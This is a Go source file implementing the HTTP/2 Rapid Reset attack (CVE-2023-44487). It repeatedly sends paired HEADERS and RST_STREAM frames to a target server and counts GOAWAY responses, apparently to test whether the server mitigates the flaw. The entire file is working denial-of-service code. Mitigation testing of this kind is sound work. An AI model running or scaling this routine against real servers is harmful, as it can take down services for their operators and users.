package attack

import (
	"bufio"
	"context"
	"net"
	"sync/atomic"
	"time"
)

// enhanceYourCalm is the HTTP/2 error code of a GOAWAY for abuse.
const enhanceYourCalm = 0xb

// RapidReset plays HTTP/2 rapid reset (CVE-2023-44487) against a
// cleartext HTTP/2 server: every Every it opens a connection, sends Pairs
// HEADERS frames each followed at once by RST_STREAM (CANCEL), and waits
// (at most 10s) for the server's GOAWAY and the connection's end. One
// connection at a time. Set the fields before Run; Stats may be read at
// any time.
type RapidReset struct {
	// Addr is the server's host:port.
	Addr  string
	Pairs int
	Every time.Duration

	conns, goAways, otherEnds, dialFailed, streams atomic.Int64
}

// RapidResetStats counts a RapidReset's connections.
type RapidResetStats struct {
	// Conns counts connections that sent their frames; GoAways those the
	// server answered with GOAWAY ENHANCE_YOUR_CALM, OtherEnds those that
	// ended (or went quiet for 10s) without one. Streams is how many
	// streams the GOAWAYs said the server had taken in all, of
	// Conns × Pairs sent.
	Conns, GoAways, OtherEnds, DialFailed, Streams int64
}

// Stats returns the counts so far.
func (a *RapidReset) Stats() RapidResetStats {
	return RapidResetStats{Conns: a.conns.Load(), GoAways: a.goAways.Load(), OtherEnds: a.otherEnds.Load(), DialFailed: a.dialFailed.Load(), Streams: a.streams.Load()}
}

// Run attacks until ctx ends; a connection under way when it ends is
// seen through.
func (a *RapidReset) Run(ctx context.Context) {
	t := time.NewTicker(orDefault(a.Every, time.Second))
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-t.C:
		}
		if ctx.Err() != nil { // a tick and the end at once: the end wins
			return
		}
		a.once()
	}
}

func (a *RapidReset) once() {
	c, err := net.DialTimeout("tcp", a.Addr, 2*time.Second)
	if err != nil {
		a.dialFailed.Add(1)
		return
	}
	defer c.Close()
	a.conns.Add(1)
	goaway := make(chan Frame, 1)
	go func() {
		defer close(goaway)
		_ = c.SetReadDeadline(time.Now().Add(10 * time.Second))
		br := bufio.NewReader(c)
		for {
			f, err := ReadFrame(br)
			if err != nil {
				return
			}
			if f.Type == FrameGoAway {
				goaway <- f
				// Read on to the connection's end.
				for {
					if _, err := ReadFrame(br); err != nil {
						return
					}
				}
			}
		}
	}()
	w := bufio.NewWriter(c)
	_ = StartH2C(w)
	block := CheckHeaders()
	for i := range a.Pairs {
		id := uint32(2*i + 1)
		_ = WriteFrame(w, FrameHeaders, FlagEndHeaders, id, block)
		_ = WriteFrame(w, FrameRSTStream, 0, id, []byte{0, 0, 0, 8}) // CANCEL
	}
	_ = w.Flush() // may fail once the server has closed: that is the point
	f, ok := <-goaway
	if last, code := f.GoAwayCode(); ok && code == enhanceYourCalm {
		a.goAways.Add(1)
		a.streams.Add(int64(last+1) / 2)
	} else {
		a.otherEnds.Add(1)
	}
	for range goaway { // the connection's end
	}
}
